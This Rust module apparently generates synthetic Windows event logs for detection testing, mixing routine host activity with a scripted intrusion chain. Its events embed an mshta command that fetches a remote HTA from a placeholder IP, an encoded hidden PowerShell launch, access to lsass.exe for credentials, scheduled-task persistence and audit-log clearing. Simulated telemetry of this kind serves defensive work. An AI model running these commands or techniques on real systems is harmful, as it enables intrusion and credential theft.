//! Windows events as collectors forward them: flat objects with `Channel`, `EventID` and the event's data.

use super::{Scene, pick};
use rand::Rng as _;
use rand::rngs::StdRng;
use serde_json::{Map, Value, json};

/// Steps of an intrusion on a host, see [`intrusion`].
pub(super) const STEPS: usize = 9;

const SYSMON: (&str, &str) = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon");
const SECURITY: (&str, &str) = ("Security", "Microsoft-Windows-Security-Auditing");
const POWERSHELL: (&str, &str) = (
    "Microsoft-Windows-PowerShell/Operational",
    "Microsoft-Windows-PowerShell",
);
const SCHEDULER: (&str, &str) = (
    "Microsoft-Windows-TaskScheduler/Operational",
    "Microsoft-Windows-TaskScheduler",
);

const PROGRAMS: [&str; 8] = [
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
    r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\System32\RuntimeBroker.exe",
    r"C:\Windows\System32\backgroundTaskHost.exe",
    r"C:\Windows\System32\taskhostw.exe",
    r"C:\Program Files\Microsoft VS Code\Code.exe",
];
const LIBRARIES: [&str; 5] = [
    r"C:\Windows\System32\kernel32.dll",
    r"C:\Windows\System32\combase.dll",
    r"C:\Windows\System32\rpcrt4.dll",
    r"C:\Windows\System32\ucrtbase.dll",
    r"C:\Windows\System32\bcrypt.dll",
];
const NAMES: [&str; 5] = [
    "intranet.example",
    "mail.example",
    "updates.example",
    "cdn.example",
    "time.example",
];

/// What hosts do all day.
pub(super) fn ordinary(scene: &Scene<'_>, random: &mut StdRng) -> Value {
    let image = pick(random, &PROGRAMS);
    let process: u32 = random.random_range(800..30_000);
    match random.random_range(0..100) {
        0..30 => sysmon(
            scene,
            10,
            &json!({
                "SourceProcessId": process.to_string(), "SourceImage": r"C:\Windows\System32\svchost.exe",
                "TargetImage": image, "GrantedAccess": "0x1000", "SourceUser": r"NT AUTHORITY\SYSTEM",
                "TargetUser": scene.account(),
            }),
        ),
        30..50 => sysmon(
            scene,
            7,
            &json!({
                "ProcessId": process.to_string(), "Image": image, "ImageLoaded": pick(random, &LIBRARIES),
                "Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid",
                "User": scene.account(),
            }),
        ),
        50..65 => process_created(
            scene,
            process,
            image,
            &format!("\"{image}\""),
            r"C:\Windows\explorer.exe",
        ),
        65..78 => sysmon(
            scene,
            3,
            &json!({
                "ProcessId": process.to_string(), "Image": image, "User": scene.account(), "Protocol": "tcp",
                "Initiated": "true", "SourceIp": scene.address(),
                "SourcePort": random.random_range(49_152..65_535_u32).to_string(),
                "DestinationIp": format!("192.0.2.{}", random.random_range(1..255_u32)), "DestinationPort": "443",
                "DestinationHostname": pick(random, &NAMES),
            }),
        ),
        78..86 => sysmon(
            scene,
            22,
            &json!({
                "ProcessId": process.to_string(), "Image": image, "QueryName": pick(random, &NAMES),
                "QueryStatus": "0", "QueryResults": "::ffff:192.0.2.10;", "User": scene.account(),
            }),
        ),
        86..93 => sysmon(
            scene,
            11,
            &json!({
                "ProcessId": process.to_string(), "Image": image, "User": scene.account(),
                "TargetFilename": format!(r"C:\Users\{}\AppData\Local\Cache\entry-{process}.tmp", scene.user),
            }),
        ),
        _ => record(
            scene,
            SECURITY,
            4624,
            &json!({
                "SubjectUserName": "-", "TargetUserName": scene.user,
                "TargetDomainName": scene.tenant.to_ascii_uppercase(), "LogonType": "3",
                "AuthenticationPackageName": "Kerberos", "IpAddress": scene.address(),
                "IpPort": random.random_range(49_152..65_535_u32).to_string(), "EventType": "AUDIT_SUCCESS",
            }),
        ),
    }
}

/// A step of an intrusion: from a script in a browser to the audit log that is cleared.
pub(super) fn intrusion(scene: &Scene<'_>, step: usize) -> Value {
    const POWERSHELL_EXE: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let process = u32::try_from(4_000 + scene.record % 20_000).unwrap_or(4_000);
    match step {
        0 => process_created(
            scene,
            process,
            r"C:\Windows\System32\mshta.exe",
            "mshta.exe http://198.51.100.23/invoice.hta",
            r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        ),
        1 => record(
            scene,
            POWERSHELL,
            4103,
            &json!({
                "Payload": "CommandInvocation(Out-Null): \"Out-Null\"",
                "ContextInfo": format!(
                    "Severity = Informational\r\nHost Application = {POWERSHELL_EXE} -noP -w 1 -enc \
                     SQBFAFgAIAAiAGEAaQBzAG8AYwAiAA==\r\nUser = {}", scene.account()
                ),
            }),
        ),
        2 => sysmon(
            scene,
            3,
            &json!({
                "ProcessId": process.to_string(), "Image": POWERSHELL_EXE, "User": scene.account(),
                "Protocol": "tcp", "Initiated": "true", "SourceIp": scene.address(), "SourcePort": "50122",
                "DestinationIp": "198.51.100.23", "DestinationPort": "443", "DestinationHostname": "-",
            }),
        ),
        3 => process_created(
            scene,
            process,
            r"C:\Windows\System32\whoami.exe",
            "\"C:\\Windows\\system32\\whoami.exe\" /all",
            POWERSHELL_EXE,
        ),
        4 => record(
            scene,
            SECURITY,
            4799,
            &json!({
                "TargetUserName": "Administrators", "TargetDomainName": "Builtin", "SubjectUserName": scene.user,
                "CallerProcessName": r"C:\Windows\System32\net1.exe", "EventType": "AUDIT_SUCCESS",
            }),
        ),
        5 => record(
            scene,
            SCHEDULER,
            106,
            &json!({
                "TaskName": format!("\\Updater-{}", scene.host), "UserContext": scene.account(),
                "Category": "Task registered",
            }),
        ),
        6 => sysmon(
            scene,
            10,
            &json!({
                "SourceProcessId": process.to_string(),
                "SourceImage": format!(r"C:\Users\{}\AppData\Local\Temp\rundll.exe", scene.user),
                "TargetImage": r"C:\Windows\System32\lsass.exe", "GrantedAccess": "0x1410",
                "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9f934|UNKNOWN(0000021C5A3B0000)",
                "SourceUser": scene.account(), "TargetUser": r"NT AUTHORITY\SYSTEM",
            }),
        ),
        7 => process_created(
            scene,
            process,
            r"C:\Windows\System32\cmd.exe",
            "cmd.exe /c hostname",
            r"C:\Windows\System32\wsmprovhost.exe",
        ),
        _ => record(
            scene,
            ("Security", "Microsoft-Windows-Eventlog"),
            1102,
            &json!({
                "SubjectUserName": scene.user, "SubjectDomainName": scene.tenant.to_ascii_uppercase(),
            }),
        ),
    }
}

fn process_created(scene: &Scene<'_>, process: u32, image: &str, command: &str, parent: &str) -> Value {
    sysmon(
        scene,
        1,
        &json!({
            "ProcessId": process.to_string(), "Image": image, "CommandLine": command, "ParentImage": parent,
            "ParentCommandLine": format!("\"{parent}\""), "User": scene.account(), "IntegrityLevel": "Medium",
            "CurrentDirectory": format!(r"C:\Users\{}\", scene.user),
        }),
    )
}

fn sysmon(scene: &Scene<'_>, id: u32, data: &Value) -> Value {
    record(scene, SYSMON, id, data)
}

fn record(scene: &Scene<'_>, (channel, source): (&str, &str), id: u32, data: &Value) -> Value {
    let mut event = Map::new();
    let at = scene.at.to_string();
    for (name, value) in [
        ("Channel", json!(channel)),
        ("SourceName", json!(source)),
        ("EventID", json!(id)),
        ("RecordNumber", json!(scene.record)),
        ("Hostname", json!(scene.hostname())),
        ("@timestamp", json!(at)),
        ("TimeCreated", json!(at)),
        ("Level", json!("4")),
    ] {
        event.insert(name.to_owned(), value);
    }
    for (name, value) in data.as_object().into_iter().flatten() {
        event.insert(name.clone(), value.clone());
    }
    Value::Object(event)
}
